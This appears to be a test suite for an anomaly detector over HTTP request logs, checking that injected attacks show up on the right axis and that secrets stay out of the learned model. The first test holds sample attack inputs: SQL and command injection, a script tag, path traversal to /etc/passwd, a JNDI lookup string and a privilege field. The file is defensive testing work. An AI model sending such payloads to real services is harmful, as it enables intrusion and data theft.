import assert from 'node:assert/strict'
import { test } from 'node:test'
import { learnItems, scoreOf } from '../../calibration.ts'
import type { FileLine, Model } from '../../model.ts'
import type { ExchangeItem } from './exchange-item.ts'
import { exchanges } from './exchanges.ts'

async function itemsOf(texts: readonly string[], skipped: string[] = []): Promise<ExchangeItem[]> {
  async function* lines(): AsyncGenerator<FileLine> {
    for (const [i, text] of texts.entries()) yield { text, number: i + 1 }
  }
  const items: ExchangeItem[] = []
  for await (const item of exchanges.read(lines(), (line, why) => skipped.push(`${line}: ${why}`))) items.push(item)
  return items
}

const one = async (value: unknown): Promise<ExchangeItem> => (await itemsOf([JSON.stringify(value)]))[0] as ExchangeItem

const sorts = ['name', 'price', 'date']
const normal = Array.from({ length: 400 }, (_, i) => ({
  id: `n${i}`,
  method: i % 4 === 3 ? 'POST' : 'GET',
  url:
    i % 4 === 3
      ? '/orders'
      : i % 2 === 0
        ? `/products?page=${1 + (i % 9)}&sort=${sorts[i % 3]}`
        : `/orders/${1000 + i}`,
  headers: {
    'User-Agent': `shop/1.${i % 5}`,
    Accept: 'application/json',
    ...(i % 4 === 3 ? { 'Content-Type': 'application/json' } : {}),
  },
  body: i % 4 === 3 ? JSON.stringify({ sku: `A-${100 + i}`, amount: 1 + (i % 7), note: 'please ring twice' }) : '',
  status: i % 4 === 3 ? 201 : 200,
}))

async function trained(): Promise<Model<ExchangeItem>> {
  const model = exchanges.create()
  for (const item of await itemsOf(normal.map(value => JSON.stringify(value)))) model.learn(item)
  return model
}

/** The axis of which one call says most, among those that a normal call says little of. */
async function strangestAxis(model: Model<ExchangeItem>, change: Readonly<Record<string, unknown>>, base = 0) {
  const { deviation } = model.judge(await one({ ...normal[base], ...change }))
  const usual = model.judge(await one(normal[base])).deviation
  let [axis, most] = ['', 0]
  for (const [name, value] of Object.entries(deviation))
    if (value - (usual[name] ?? 0) > most) [axis, most] = [name, value - (usual[name] ?? 0)]
  return { axis, most }
}

test('each kind of attack shows on the axis that it belongs to', async () => {
  const model = await trained()
  const json = (body: unknown) => ({ body: JSON.stringify(body) })
  const order = { sku: 'A-103', amount: 4, note: 'please ring twice' }
  const rows: ReadonlyArray<readonly [axis: string, change: Readonly<Record<string, unknown>>, base?: number]> = [
    ['text', { url: "/products?page=1'%20or%20'1'='1&sort=name" }],
    ['text', { url: '/products?page=1&sort=;id' }],
    ['text', json({ ...order, note: '<script>alert(1)</script>' }), 3],
    ['names', { url: '/products?page=1&sort=name&debug=true' }],
    ['names', json({ ...order, role: 'admin' }), 3],
    ['order', { url: '/products?sort=name&page=1' }],
    ['values', { url: '/products?page=1&sort=owner' }],
    ['range', json({ ...order, amount: 100_000 }), 3],
    ['path', { url: '/orders/..%2f..%2fetc%2fpasswd' }],
    ['path', { url: '/orders/../admin' }],
    ['path', { url: '/internal/debug' }],
    ['method', { method: 'DELETE', url: '/orders/1001' }],
    ['header-text', { headers: { 'User-Agent': '${jndi:ldap://x/a}', Accept: 'application/json' } }],
    [
      'headers',
      { headers: { 'User-Agent': 'shop/1.0', Accept: 'application/json', 'X-Forwarded-Host': 'application/json' } },
    ],
    ['status', { status: 500 }],
  ]
  for (const [axis, change, base] of rows) {
    const found = await strangestAxis(model, change, base)
    assert.equal(found.axis, axis, JSON.stringify(change))
    assert.ok(found.most > 5, `${JSON.stringify(change)}: ${found.most}`)
  }
})

test('new values of the usual form are normal', async () => {
  const model = await trained()
  for (const change of [
    { url: '/orders/5501' },
    { url: '/products?page=8&sort=price' },
    { url: '/products?sort=price&page=2', headers: undefined },
  ]) {
    const { deviation } = model.judge(await one({ ...normal[0], ...change }))
    const { order: _, ...rest } = deviation
    for (const [axis, value] of Object.entries(rest)) assert.ok(value < 6, `${JSON.stringify(change)} ${axis} ${value}`)
  }
})

test('a field left out is judged by no axis, an empty one is', async () => {
  const model = await trained()
  const bare = model.judge(await one({ id: 'x', method: 'POST', url: '/orders' })).deviation
  for (const axis of ['headers', 'header-text', 'status', 'response', 'response-size', 'caller', 'volume'])
    assert.ok(!(axis in bare), axis)
  assert.ok((bare['values'] ?? 0) < 3)
  const empty = model.judge(await one({ id: 'x', method: 'POST', url: '/orders', body: '' })).deviation
  assert.ok((empty['values'] ?? 0) > 4)
})

test('explanations name the place and what is usual, and no value', async () => {
  const model = await trained()
  const item = await one({
    ...normal[3],
    url: '/orders?token=hunter2',
    body: JSON.stringify({ sku: "A-1'--", pin: 4711 }),
  })
  const text = model
    .judge(item)
    .explain()
    .map(clause => clause.text)
    .join('; ')
  assert.match(text, /`token` never came/)
  assert.match(text, /`sku` \(body\)/)
  assert.doesNotMatch(text, /hunter2|4711/)
})

test('the order of learning does not matter, and a dump reads back as it was', async () => {
  const items = await itemsOf(normal.map(value => JSON.stringify(value)))
  const [forth, back] = [exchanges.create(), exchanges.create()]
  for (const item of items) forth.learn(item)
  for (const item of items.toReversed()) back.learn(item)
  const restored = exchanges.restore(JSON.parse(JSON.stringify(forth.dump())))
  assert.deepEqual(restored.dump(), forth.dump())
  for (const item of items.slice(0, 40)) {
    const expected = forth.judge(item)
    assert.deepEqual(restored.judge(item).deviation, expected.deviation)
    for (const [axis, value] of Object.entries(back.judge(item).deviation))
      assert.ok(Math.abs(value - (expected.deviation[axis] ?? 0)) < 1e-6, axis)
  }
  assert.deepEqual(restored.dump(), forth.dump(), 'judging changes nothing')
  for (const bad of [null, {}, [], { operations: 1 }]) assert.throws(() => exchanges.restore(bad as never), RangeError)
})

test('no personal or secret value stays in a model', async () => {
  const model = exchanges.create()
  for (let i = 0; i < 50; i++)
    model.learn(
      await one({
        method: 'POST',
        url: `/users/jane.roe.${i}@example.com/cards?token=s3cr3t-Tok3n-${i}xYz`,
        headers: { authorization: `Bearer abcdefghijklmnop${i}`, cookie: `session=feedface${i}` },
        body: JSON.stringify({ name: 'Zebulonia', 'jane@example.com': 1, card: '4111111111111111' }),
      }),
    )
  const text = JSON.stringify(model.dump())
  for (const secret of ['jane', 's3cr3t', 'abcdefghijklmnop', 'feedface', 'Zebulonia', '41111111'])
    assert.ok(!text.includes(secret), secret)
})

test('lines of both forms and archives are read, and what is none is told', async () => {
  const skipped: string[] = []
  const own =
    '{"time":"2026-11-22T10:00:00Z","method":"GET","url":"https://api.example.com/a/../b?x=1","status":200,"principal":{"subject":"jane","method":"jwt"},"request":{"headers":[["X-A","1"]],"body":"q"},"response":{"headers":{"a":["1","2"]},"body":"aGVsbG8=","encoding":"base64"}}'
  const entry = {
    startedDateTime: '2026-11-22T11:00:00.000+01:00',
    request: { method: 'POST', url: '/o', headers: [], postData: { text: 'a=1' } },
    response: { status: 201, headers: [], content: { text: '{}' } },
  }
  const archive = { log: { version: '1.2', entries: [entry, { no: 1 }, entry] } }
  const texts = [
    own,
    'nonsense',
    '{"url":"/x"}',
    JSON.stringify(archive),
    '{"id":7,"method":"PUT","url":"*"}',
    ...JSON.stringify(archive, null, 1).split('\n'),
  ]
  const items = await itemsOf(texts, skipped)
  assert.deepEqual(
    items.map(({ id, method, path, query }) => `${id} ${method} ${path} ${query}`),
    [
      'line 1 GET /a/../b x=1',
      'entry 1 POST /o ',
      'entry 3 POST /o ',
      '7 PUT /* ',
      'entry 1 POST /o ',
      'entry 3 POST /o ',
    ],
  )
  const [first, second] = items
  assert.equal(first?.host, 'api.example.com')
  assert.equal(first?.principal, 'jane')
  assert.equal(first?.responseBody, 'hello')
  assert.deepEqual(first?.responseHeaders, [
    ['a', '1'],
    ['a', '2'],
  ])
  assert.equal(second?.body, 'a=1')
  assert.equal(second?.timeMs, Date.parse('2026-11-22T10:00:00Z'))
  assert.deepEqual(skipped, ['2: not JSON', '3: no method', '4: entry 2: no request', '6: entry 2: no request'])
})

test('bombs of paths, names, values and nesting leave the model small and every deviation finite', async () => {
  const model = exchanges.create()
  const deep = `${'{"a":['.repeat(3000)}1${']}'.repeat(3000)}`
  const wide = JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}x`, i])))
  for (let i = 0; i < 1500; i++) {
    model.learn(
      await one({
        method: `M${i}`,
        url: `http://h${i}/w${i.toString(36)}z/${'x/'.repeat(i % 90)}?p${i}q=${i}&${'a=1&'.repeat(i % 7)}`,
        headers: { [`x-${i}-h`]: 'v', cookie: `c${i}=1`, 'content-type': 'application/json' },
        body: i % 300 === 0 ? deep : i % 100 === 0 ? wide : `{"k${i}v":${i}}`,
        principal: `p${i}`,
        time: i,
        status: 200 + (i % 700),
      }),
    )
  }
  const size = JSON.stringify(model.dump()).length
  assert.ok(size < 20_000_000, String(size))
  for (const url of [
    '/',
    '',
    '?',
    '//',
    '/%',
    `/${'%2e'.repeat(5000)}`,
    `/?${'&'.repeat(5000)}`,
    '/?=&=;=',
    '/?__proto__=1',
  ]) {
    const judged = model.judge(
      await one({
        method: 'GET',
        url,
        headers: { '': '', cookie: ';;=;' },
        body: '<a b="',
        responseBody: '{',
        status: 99,
      }),
    )
    for (const [axis, value] of Object.entries(judged.deviation))
      assert.ok(Number.isFinite(value) && value >= 0, `${url} ${axis} ${value}`)
    assert.ok(judged.similarity >= 0 && judged.similarity <= 1)
    for (const { text } of judged.explain()) assert.ok(text.length < 2000)
  }
})

test('what every learnt item has in common is nothing strange in the next one', async () => {
  const items = await itemsOf(
    Array.from({ length: 400 }, (_, i) =>
      JSON.stringify({
        method: 'POST',
        url: '/search',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ value: `${'abcdefghij'.slice(0, 3 + (i % 7))} ${i % 10}` }),
      }),
    ),
  )
  const { model, calibration } = learnItems(exchanges, items.slice(0, 200), 1e-2)
  const held = items.slice(200)
  const alarms = held.filter(item => scoreOf(calibration, model.judge(item)).score > calibration.threshold)
  assert.ok(alarms.length <= 6, `${alarms.length} of ${held.length}`)
})

test('what was left out in training is no axis afterwards, and what is left out later neither', async () => {
  const full = Array.from({ length: 300 }, (_, i) => ({
    ...normal[i],
    time: 1_795_341_600_000 + i * 20_000,
    principal: `p${i % 5}`,
    responseBody: JSON.stringify({ id: i % 90 }),
  }))
  const bare = full.map(({ method, url }) => ({ method, url }))
  const bodiless = full.map(({ body: _body, status: _status, ...rest }) => rest)
  const axesOf = async (train: readonly object[], test: readonly object[]) => {
    const text = (list: readonly object[]): string[] => list.map(one => JSON.stringify(one))
    const { model, calibration } = learnItems(exchanges, await itemsOf(text(train)), 1e-2)
    let alarms = 0
    const seen = new Set<string>()
    for (const item of await itemsOf(text(test))) {
      const judgement = model.judge(item)
      if (scoreOf(calibration, judgement).score > calibration.threshold) alarms++
      for (const axis in judgement.deviation) seen.add(axis)
    }
    assert.ok(alarms <= 12, `${alarms} alarms`)
    return seen
  }
  for (const [train, test] of [
    [bare, full],
    [full, bare],
  ] as const) {
    const seen = await axesOf(train, test)
    for (const axis of ['header-text', 'headers', 'status', 'caller', 'volume', 'failures', 'response'])
      assert.ok(!seen.has(axis), axis)
  }
  for (const [train, test] of [
    [bodiless, full],
    [full, bodiless],
  ] as const) {
    const seen = await axesOf(train, test)
    assert.ok(seen.has('volume') && !seen.has('status') && !seen.has('failures'), [...seen].join(' '))
  }
})

test('an id of one digit more makes no answer strange by its size', async () => {
  const order = (id: number) => ({ method: 'POST', url: '/orders', status: 201, responseBody: JSON.stringify({ id }) })
  const items = await itemsOf(Array.from({ length: 300 }, (_, i) => JSON.stringify(order(100 + i))))
  const { model, calibration } = learnItems(exchanges, items, 1e-2)
  const alarmed = async (value: unknown): Promise<boolean> =>
    scoreOf(calibration, model.judge(await one(value))).score > calibration.threshold
  assert.equal(await alarmed(order(12_345)), false)
  assert.equal(await alarmed({ ...order(1), responseBody: JSON.stringify({ id: 7, rows: 'x'.repeat(5000) }) }), true)
})

test('a line that breaks off, and a time beyond all dates, cost no other line', async () => {
  const skipped: string[] = []
  const usual = JSON.stringify({ id: 'a', method: 'GET', url: '/items/1' })
  const items = await itemsOf(
    [
      '{',
      usual,
      JSON.stringify({ id: 'b', method: 'GET', url: '/items/1', time: 1e308, principal: 'p' }),
      JSON.stringify({ id: 'c', method: 'GET', url: '/items/1', time: -5, principal: 'p' }),
      '{',
    ],
    skipped,
  )
  assert.deepEqual(
    items.map(({ id, timeMs }) => [id, timeMs]),
    [
      ['a', null],
      ['b', null],
      ['c', -5],
    ],
  )
  assert.deepEqual(skipped, ['1: not JSON', '5: not JSON'])
})

test('an id in the path that is far out of the usual range is told in words', async () => {
  const model = await trained()
  const clauses = model.judge(await one({ ...normal[1], url: '/orders/4111111111111111' })).explain()
  assert.ok(
    clauses.some(
      ({ axis, text }) =>
        axis === 'range' && text.startsWith('segment 2 of the path has a number of 16 characters, usual is '),
    ),
    JSON.stringify(clauses),
  )
})
